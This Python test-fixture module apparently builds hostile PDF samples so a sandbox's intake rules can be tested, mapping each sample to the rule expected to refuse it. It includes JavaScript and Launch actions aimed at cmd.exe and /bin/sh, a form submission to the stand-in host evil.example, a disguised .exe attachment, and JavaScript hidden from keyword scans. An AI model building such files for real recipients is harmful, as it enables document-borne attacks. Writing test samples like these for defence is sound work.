"""Hostile PDFs, built here: with pypdf's writer where it can say it (encryption, JavaScript,
attachments, actions) and by hand where a file must be wrong in a precise way (a broken
cross-reference table, an escaped name, an object stream). The hand-made ones are laid out by
the sandbox's sample builder (`sandbox.samples.assemble`, `pdf_objects`), the one place that
writes a PDF's objects and cross-reference for tests."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable

from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    TextStringObject,
)

from sandbox import samples


def _writer() -> PdfWriter:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    return writer


def _bytes(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _name(value: str) -> NameObject:
    return NameObject(value)


def _action(kind: str, **fields: str) -> DictionaryObject:
    action = DictionaryObject({_name("/Type"): _name("/Action"), _name("/S"): _name(kind)})
    for key, value in fields.items():
        action[_name(f"/{key}")] = TextStringObject(value)
    return action


def plain() -> bytes:
    """A one-page PDF with nothing in it but the page: accepted."""
    return _bytes(_writer())


def with_page_link() -> bytes:
    """A link to a web page on the page (an ordinary invoice has one): accepted."""
    writer = _writer()
    _annotate(writer, _action("/URI", URI="https://example.org/"))
    return _bytes(writer)


def opening_on_a_page() -> bytes:
    """An OpenAction that only shows the first page (what office suites write): accepted."""
    writer = _writer()
    page = writer.pages[0].indirect_reference
    writer.root_object[_name("/OpenAction")] = ArrayObject([page, _name("/Fit")])
    return _bytes(writer)


def encrypted() -> bytes:
    writer = _writer()
    writer.encrypt(user_password="1234", owner_password="owner", algorithm="RC4-128")
    return _bytes(writer)


def encrypted_without_password() -> bytes:
    """Opens without a password in any reader, but its content is encrypted all the same."""
    writer = _writer()
    writer.encrypt(user_password="", owner_password="owner", algorithm="RC4-128")
    return _bytes(writer)


def javascript() -> bytes:
    """Document-level JavaScript (the names tree), as `add_js` wrote it before pypdf 7."""
    writer = _writer()
    script = writer._add_object(_action("/JavaScript", JS="app.alert('hello');"))
    writer.root_object[_name("/Names")] = DictionaryObject({_name("/JavaScript"): DictionaryObject(
        {_name("/Names"): ArrayObject([TextStringObject("hello"), script])})})
    return _bytes(writer)


def open_action_javascript() -> bytes:
    writer = _writer()
    writer.root_object[_name("/OpenAction")] = writer._add_object(
        _action("/JavaScript", JS="this.exportDataObject({cName: 'x', nLaunch: 2});"))
    return _bytes(writer)


def open_action_uri() -> bytes:
    writer = _writer()
    writer.root_object[_name("/OpenAction")] = _action("/URI", URI="http://evil.example/")
    return _bytes(writer)


def launch() -> bytes:
    writer = _writer()
    _annotate(writer, _action("/Launch", F="cmd.exe"))
    return _bytes(writer)


def open_action_launch() -> bytes:
    writer = _writer()
    writer.root_object[_name("/OpenAction")] = _action("/Launch", F="/bin/sh")
    return _bytes(writer)


def page_open_action() -> bytes:
    """Additional actions (`/AA`): a page that submits a form when it is opened."""
    writer = _writer()
    writer.pages[0][_name("/AA")] = DictionaryObject(
        {_name("/O"): _action("/SubmitForm", F="http://evil.example/")})
    return _bytes(writer)


def embedded_file() -> bytes:
    writer = _writer()
    writer.add_attachment("invoice.pdf.exe", b"MZ\x90\x00" + b"\x00" * 64)
    return _bytes(writer)


def _annotate(writer: PdfWriter, action: DictionaryObject) -> None:
    link = DictionaryObject({
        _name("/Type"): _name("/Annot"), _name("/Subtype"): _name("/Link"),
        _name("/Rect"): ArrayObject([FloatObject(0), FloatObject(0), FloatObject(100),
                                     FloatObject(100)]),
        _name("/A"): action})
    writer.pages[0][_name("/Annots")] = ArrayObject([writer._add_object(link)])


# --- by hand ---------------------------------------------------------------------------------

def assemble(objects: list[bytes], *, root: int = 1) -> bytes:
    """A classic PDF of these objects (numbered from 1) with a correct xref table."""
    return samples.assemble(objects, root=root, version=b"1.7")


PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def escaped_name() -> bytes:
    """`/J#61vaScript` is `/JavaScript` to every reader: a search for the plain word misses it."""
    return assemble([b"<< /Type /Catalog /Pages 2 0 R /Names << /J#61vaScript 4 0 R >> >>",
                     PAGES, PAGE,
                     b"<< /Names [(x) 5 0 R] >>",
                     b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"])


def in_object_stream() -> bytes:
    """The JavaScript action sits in a compressed object stream (found through an xref
    stream): nothing in the file's bytes says JavaScript."""
    hidden = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    inner = b"5 0 " + hidden
    stream = zlib.compress(inner)
    objects = [b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>", PAGES, PAGE,
               b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n"
               % len(stream) + stream + b"\nendstream"]
    out, offsets = samples.pdf_objects(objects, version=b"1.7")
    xref_offset = len(out)
    rows = [b"\x00" + (0).to_bytes(4, "big") + b"\xff\xff"]
    rows += [b"\x01" + offset.to_bytes(4, "big") + b"\x00\x00" for offset in offsets]
    rows.append(b"\x02" + (4).to_bytes(4, "big") + b"\x00\x00")  # object 5: in stream 4
    rows.append(b"\x01" + xref_offset.to_bytes(4, "big") + b"\x00\x00")  # object 6: this
    table = b"".join(rows)
    out += (b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
            % len(table) + table + b"\nendstream\nendobj\n")
    out += b"startxref\n%d\n%%%%EOF\n" % xref_offset
    return bytes(out)


def only_the_markers() -> bytes:
    """Starts like a PDF and ends like one, with nothing a reader can open between."""
    return b"%PDF-1.7\n" + b"this is not a document " * 40 + b"\n%%EOF\n"


def truncated_xref() -> bytes:
    data = plain()
    cut = data.rindex(b"\nxref\n") + 30  # the table stops in its second line
    return data[:cut] + b"\n" + data[data.rindex(b"trailer"):]  # the trailer still points there


def wrong_startxref() -> bytes:
    data = plain()
    head, _, tail = data.rpartition(b"startxref\n")
    offset = tail.split(b"\n", 1)[0]
    return head + b"startxref\n" + str(int(offset) - 7).encode() + b"\n%%EOF\n"


def no_pages() -> bytes:
    return assemble([b"<< /Type /Catalog /Pages 2 0 R >>",
                     b"<< /Type /Pages /Kids [] /Count 0 >>"])


def nested(depth: int) -> Callable[[], bytes]:
    """An array nested `depth` deep in the catalog: a parser that recurses runs out of stack."""
    def build() -> bytes:
        return assemble([b"<< /Type /Catalog /Pages 2 0 R /Junk " + b"[" * depth
                         + b"]" * depth + b" >>", PAGES, PAGE])
    return build


def named_jpg() -> bytes:
    """A PDF with JavaScript, named `scan.jpg` when sent: it is checked as the PDF it is."""
    return javascript()


ACCEPTED: dict[str, Callable[[], bytes]] = {
    "plain": plain, "a link on the page": with_page_link, "opens on a page": opening_on_a_page,
}
# name → (builder, the catalog key of the rule that refuses it)
REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
    "encrypted with a password": (encrypted, "evidence-pdf-encrypted"),
    "encrypted without a password": (encrypted_without_password, "evidence-pdf-encrypted"),
    "javascript": (javascript, "evidence-pdf-script"),
    "javascript as open action": (open_action_javascript, "evidence-pdf-script"),
    "javascript under an escaped name": (escaped_name, "evidence-pdf-script"),
    "javascript in an object stream": (in_object_stream, "evidence-pdf-script"),
    "launch from a link": (launch, "evidence-pdf-launch"),
    "launch as open action": (open_action_launch, "evidence-pdf-launch"),
    "open action to a web address": (open_action_uri, "evidence-pdf-action"),
    "page additional action": (page_open_action, "evidence-pdf-action"),
    "embedded file": (embedded_file, "evidence-pdf-embedded"),
    "only the markers": (only_the_markers, "evidence-pdf-broken"),
    "truncated xref": (truncated_xref, "evidence-pdf-broken"),
    "wrong startxref": (wrong_startxref, "evidence-pdf-broken"),
    "no pages": (no_pages, "evidence-pdf-broken"),
    "nested 300 deep": (nested(300), "evidence-pdf-too-complex"),
    "nested 5000 deep": (nested(5000), "evidence-pdf-broken"),
}
